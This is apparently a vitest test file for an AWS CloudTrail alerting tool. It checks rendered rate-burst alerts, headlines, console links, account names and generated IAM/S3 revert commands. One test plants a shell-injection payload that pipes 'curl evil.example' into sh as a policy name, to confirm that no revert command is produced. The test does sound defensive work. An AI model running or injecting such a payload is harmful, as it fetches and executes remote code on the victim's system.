import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { burstView } from '../../shared/alerts/burst.ts';
import { renderChatbot } from '../../shared/alerts/chatbot.ts';
import { accountDirectory, parseAccountNames, AccountNamesError } from '../../shared/alerts/context.ts';
import { digestHeadline, headline } from '../../shared/alerts/headline.ts';
import { cloudTrailEventUrl, principalActivityUrl, resourceUrl } from '../../shared/alerts/links.ts';
import { revertCommand } from '../../shared/alerts/revert.ts';
import { renderSlack } from '../../shared/alerts/slack.ts';
import { renderEmail } from '../../shared/alerts/sns-message.ts';
import { detections } from '../../shared/detections/index.ts';
import { readPaths } from '../../shared/input/files.ts';
import type { Finding } from '../../shared/model/types.ts';
import { createReplayProcessors } from '../../shared/pipeline/processors.ts';
import { replayRecords } from '../../shared/pipeline/replay.ts';
import { RATE_BURST_EXAMPLE, exampleFindings } from '../../scripts/render-examples.ts';
import { EVENTS_DIR, sampleEvent } from '../helpers/events.ts';

/** Alerts an on-call engineer can act on in 10 seconds (docs/alerts.md, "What an alert shows"). */

describe('rate-anomaly alerts show the burst, from the real rate detector over events/traffic', () => {
  let burst: Finding;
  beforeAll(async () => {
    const result = await replayRecords(readPaths([join(EVENTS_DIR, 'traffic', 'traffic.jsonl')]), { detections, processors: await createReplayProcessors({ rates: true }) });
    const found = result.findings.find((f) => f.detection === 'api-rate-anomaly' && f.details['dimension'] === 'principal');
    if (!found) throw new Error('the traffic sample produced no principal burst');
    burst = found;
  }, 60_000);

  it('principal, minute count against normal, top APIs, source IPs, first and last event', () => {
    const view = burstView(burst)!;
    expect(view.observed).toBe(burst.details['observed']);
    expect(view.normal).toMatch(/^normal ≈ [\d.]+\/min, peak [\d.]+\/min over \d+ min of history$|^never seen before/);
    expect(view.topApis.length).toBeGreaterThan(0);
    expect(view.topSourceIps.length).toBeGreaterThan(0);
    const slack = JSON.stringify(renderSlack({ kind: 'finding', finding: burst }));
    for (const api of view.topApis) expect(slack).toContain(`\`${api.value}\` ×${api.count}`);
    for (const ip of view.topSourceIps) expect(slack).toContain(`\`${ip.value}\` ×${ip.count}`);
    expect(slack).toContain('*First / last event:*');
    const email = renderEmail({ kind: 'finding', finding: burst }).text;
    expect(email).toMatch(/BURST\n {2}This minute +\d+ calls \(normal/);
  });

  it('no made-up event link, no internals; a CloudTrail link filtered to the principal and the burst window', () => {
    expect(cloudTrailEventUrl(burst)).toBeUndefined(); // `rate-…` is not a CloudTrail event
    const slack = JSON.stringify(renderSlack({ kind: 'finding', finding: burst }));
    const chatbot = JSON.stringify(renderChatbot({ kind: 'finding', finding: burst }));
    const email = renderEmail({ kind: 'finding', finding: burst }).text;
    for (const text of [slack, chatbot, email]) {
      expect(text).not.toContain(`#/events/${burst.eventId}`);
      expect(text).not.toMatch(/burstId|expectedPerMinute|"basis"|sampledFromThisBatch/);
    }
    const view = burstView(burst)!;
    const user = burst.principal.arn!.split('/').pop()!;
    const start = new Date(Date.parse(String(burst.details['windowStart'])) - 60_000).toISOString();
    expect(view.historyUrl).toBe(
      `https://${burst.region}.console.aws.amazon.com/cloudtrailv2/home?region=${burst.region}#/events?StartTime=${start}&EndTime=${view.historyUrl!.match(/EndTime=([^&]+)/)![1]}&Username=${user}`,
    );
    expect(Date.parse(view.historyUrl!.match(/EndTime=([^&]+)/)![1]!)).toBeGreaterThan(Date.parse(String(burst.details['lastEventTime'])));
    expect(view.firstEventUrl).toContain(`#/events/${String(burst.details['firstEventId'])}`);
    expect(slack).toContain(view.historyUrl!);
    expect(email).toContain(view.historyUrl!);
    expect(chatbot).toContain(view.historyUrl!);
  });

  it('the docs example (RATE_BURST_EXAMPLE) has exactly the fields the live detector emits', () => {
    expect(Object.keys(RATE_BURST_EXAMPLE).sort()).toEqual(Object.keys(burst).sort());
    expect(Object.keys(RATE_BURST_EXAMPLE.details).sort()).toEqual(Object.keys(burst.details).sort());
  });

  it('a burst that spans minutes or alerts again says so in words; reason and burst JSON are not dumped', () => {
    const later: Finding = { ...burst, details: { ...burst.details, reason: 'grew', burst: { minutes: 3, total: 120, peakPerMinute: 50, alerts: 2 } } };
    const sentence = '120 calls in 3 minutes so far, peak 50/min; alert 2 of this burst: it grew';
    expect(burstView(later)!.soFar).toBe(sentence);
    const slack = JSON.stringify(renderSlack({ kind: 'finding', finding: later }));
    const chatbot = JSON.stringify(renderChatbot({ kind: 'finding', finding: later }));
    const email = renderEmail({ kind: 'finding', finding: later }).text;
    expect(slack).toContain(`*Whole burst:* ${sentence}`);
    expect(chatbot).toContain('*Whole burst:* 120 calls in 3 minutes so far, peak 50/min; alert 2 of this burst: it grew');
    expect(email).toMatch(new RegExp(`\n {2}Whole burst +${sentence}\n`));
    for (const text of [slack, chatbot, email, JSON.stringify(renderSlack({ kind: 'finding', finding: burst })), renderEmail({ kind: 'finding', finding: burst }).text]) {
      expect(text).not.toMatch(/reason: |"?minutes\\?"?:|peakPerMinute|"alerts"|Why this fired|WHY IT FIRED/);
    }
    // The burst id names the burst, never an "event".
    expect(email).toContain(`Burst id      ${burst.eventId}`);
    expect(email).not.toContain('Event id');
    expect(slack).toContain(`· burst \`${burst.eventId}\``);
    // A first alert of a one-minute burst adds nothing.
    expect(burstView(burst)!.soFar).toBeUndefined();
  });

  it('an access-key burst filters CloudTrail by that key', () => {
    const keyBurst = { ...burst, details: { ...burst.details, dimension: 'accessKey', key: 'AKIAEXAMPLEALICE0001' } };
    expect(burstView(keyBurst)!.historyUrl).toMatch(/&AccessKeyId=AKIAEXAMPLEALICE0001$/);
  });

  it('the headline says what happened', () => {
    expect(headline(burst)).toMatch(/^API burst by alice: \d+\/min \(normal [\d.]+\)$/);
  });
});

describe('headlines, links, account names and revert commands', () => {
  it('headlines say what happened, per detection', () => {
    const { root, policy } = exampleFindings();
    expect(headline(root)).toBe('root signed in without MFA');
    expect(headline(policy)).toBe('admin granted to user ci-deployer');
    const [publicBucket] = detections.find((d) => d.id === 'policy-changed')!.detect(sampleEvent('policy-changed', 'positive-bucket-policy-public'));
    expect(headline(publicBucket!)).toMatch(/^bucket .+ made public$/);
    const [stopped] = detections.find((d) => d.id === 'trail-tampering')!.detect(sampleEvent('trail-tampering', 'positive-stop-logging'));
    expect(headline(stopped!)).toMatch(/^logging stopped on /);
  });

  it('digest headers say what happened: "N × what" only when every finding was seen and says the same', () => {
    const [failed] = detections.find((d) => d.id === 'console-auth-failures')!.detect(sampleEvent('console-auth-failures', 'positive-iam-user-failure'));
    const same = { detection: failed!.detection, principal: failed!.principal.arn ?? failed!.principal.name, severity: failed!.severity, samples: [failed!, failed!, failed!], firstTime: failed!.time, lastTime: failed!.time };
    expect(digestHeadline({ ...same, count: 3 })).toBe(`3 × ${headline(failed!)}`);
    expect(digestHeadline({ ...same, count: 40 })).toBe(`40 findings: ${headline(failed!)}; …`);
    const { root, policy } = exampleFindings();
    expect(digestHeadline({ ...same, count: 2, samples: [policy, root] })).toBe('2 findings: admin granted to user ci-deployer; root signed in without MFA');
    const slack = renderSlack({ kind: 'digest', digest: { ...same, count: 40 } });
    expect(slack.blocks[0]).toMatchObject({ type: 'header', text: { text: `${failed!.severity.toUpperCase()}: 40 findings: ${headline(failed!)}; …` } });
    expect(renderEmail({ kind: 'digest', digest: { ...same, count: 40 } }).subject).toMatch(/^\[\w+\] 40 findings: failed console sign-in for .+; \.\.\. by /);
    expect(JSON.stringify(slack)).not.toMatch(/"text":"[A-Z]+: 40 × console-auth-failures/);
  });

  it('links to the affected resource and to the principal recent activity', () => {
    const { policy } = exampleFindings();
    expect(resourceUrl(policy)).toEqual({ label: 'IAM user ci-deployer', url: 'https://us-east-1.console.aws.amazon.com/iam/home#/users/details/ci-deployer' });
    expect(principalActivityUrl(policy)).toBe(
      'https://us-east-1.console.aws.amazon.com/cloudtrailv2/home?region=us-east-1#/events?StartTime=2026-11-19T09:31:05.000Z&EndTime=2026-11-20T10:31:05.000Z&AccessKeyId=ASIAZ3EXAMPLE5TFAPPLY',
    );
    expect(JSON.stringify(renderSlack({ kind: 'finding', finding: policy }))).toContain('|Affected: IAM user ci-deployer>');
  });

  it('for policy changes, the exact CLI command that reverts the change, quoted', () => {
    const { policy } = exampleFindings();
    expect(revertCommand(policy)).toMatchObject({ command: "aws iam delete-user-policy --user-name 'ci-deployer' --policy-name 'break-glass'" });
    const [attach] = detections.find((d) => d.id === 'policy-changed')!.detect(sampleEvent('policy-changed', 'positive-attach-admin-user'));
    expect(revertCommand(attach!)?.command).toMatch(/^aws iam detach-user-policy --user-name '[\w+=,.@-]+' --policy-arn 'arn:aws:iam::aws:policy\/AdministratorAccess'$/);
    const [bucket] = detections.find((d) => d.id === 'policy-changed')!.detect(sampleEvent('policy-changed', 'positive-bucket-policy-public'));
    expect(revertCommand(bucket!)?.command).toMatch(/^aws s3api delete-bucket-policy --bucket '[a-z0-9.-]+' --region [a-z]{2}-[a-z]+-\d$/);
    // A name that is not a valid IAM name (here: a shell injection) gets no command at all.
    const evil = structuredClone(policy);
    (evil.details['change'] as { policyName: string }).policyName = "x'; curl evil.example | sh; '";
    expect(revertCommand(evil)).toBeUndefined();
    expect(renderEmail({ kind: 'finding', finding: policy }).text).toContain("    aws iam delete-user-policy --user-name 'ci-deployer' --policy-name 'break-glass'");
  });

  it('shows a configured account name next to the 12-digit id on every channel', () => {
    const { root } = exampleFindings();
    const context = { accounts: accountDirectory(parseAccountNames('111122223333=prod-payments,444455556666=sandbox')) };
    expect(JSON.stringify(renderSlack({ kind: 'finding', finding: root }, context))).toContain('`111122223333` prod-payments');
    expect(renderEmail({ kind: 'finding', finding: root }, context).text).toMatch(/Account +111122223333 \(prod-payments\)/);
    expect(renderChatbot({ kind: 'finding', finding: root }, context).content.description).toContain('account 111122223333 (prod-payments)');
    expect(parseAccountNames('{"111122223333":"prod"}')).toEqual({ '111122223333': 'prod' });
    expect(() => parseAccountNames('1234=prod')).toThrow(AccountNamesError);
  });
});
